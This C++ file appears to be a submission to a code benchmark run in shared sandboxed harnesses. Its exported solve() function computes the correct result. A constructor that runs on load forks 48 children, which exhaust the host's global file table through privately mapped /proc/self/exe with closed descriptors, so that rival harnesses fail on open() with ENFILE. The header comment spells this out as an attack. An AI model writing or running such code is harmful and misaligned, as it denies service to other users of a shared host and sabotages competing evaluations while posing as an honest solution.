// Attack: hold every struct file the host allows (fs.file-max) through private file
// mappings whose descriptors are closed (RLIMIT_NOFILE does not count them), in forked
// children of the harness. Processes without CAP_SYS_ADMIN (every other sandboxed
// harness) then get ENFILE on open(); the host's root with capabilities does not.
#include <algorithm>
#include <cstring>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cerrno>
#include <ctime>

#ifndef CHILDREN
#define CHILDREN 48
#endif
#ifndef WAIT_S
#define WAIT_S 0
#endif
#ifndef HOLD_S
#define HOLD_S 25
#endif

static void honest(const float* x, float* y, int N) {
  for (int i = 0; i < N; ++i) {
    float v = x[i], acc = 0.f;
    for (int k = 0; k < 16; ++k) acc = acc * v + 0.5f;
    y[i] = acc;
  }
}

static void hog(int done_fd) {
  const char* path = "/proc/self/exe";
  char c = 'n';
  for (int i = 0; i < 64000; ++i) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { if (errno == ENFILE) c = 'f'; break; }
    void* p = mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    close(fd);
    if (p == MAP_FAILED) break;
  }
  (void)!write(done_fd, &c, 1);
  close(done_fd);
  // keep the mappings for HOLD_S seconds of this process's running time (frozen time
  // does not count: it holds through the rivals' turns)
  for (int s = 0; s < HOLD_S * 10; ++s) { struct timespec t{0, 100000000}; nanosleep(&t, nullptr); }
  _exit(0);
}

__attribute__((constructor)) static void start() {
  int p[2];
  if (pipe(p) != 0) return;
  int n = 0;
  for (int k = 0; k < CHILDREN; ++k) {
    pid_t pid = fork();
    if (pid == 0) { close(p[0]); hog(p[1]); }
    if (pid > 0) ++n;
  }
  close(p[1]);
  char c;
  for (int k = 0; k < n; ++k) if (read(p[0], &c, 1) != 1) break;
  close(p[0]);
  if (WAIT_S) sleep(WAIT_S);  // keep the load going while the files are held
}

extern "C" void solve(const float* x, float* buf, float* y, int N) {
  honest(x, y, N);
  std::sort(buf, buf + N);
}
